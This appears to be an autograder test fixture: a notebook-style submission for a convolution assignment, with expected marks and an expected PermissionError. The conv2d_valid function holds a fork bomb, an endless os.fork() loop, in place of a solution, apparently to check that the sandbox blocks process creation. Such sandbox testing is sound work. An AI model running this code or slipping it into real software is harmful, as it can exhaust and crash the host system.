# %% [markdown] assignment="01_one_window"
# Forks for ever.
#
# marks: 4, 0
# says: PermissionError: [Errno 1] Operation not permitted


# %% exercise="window_sum"
def window_sum(patch, kernel):
    return float((patch * kernel).sum())


# %% exercise="conv2d_valid"
import os


def conv2d_valid(image, kernel):
    while True:
        os.fork()
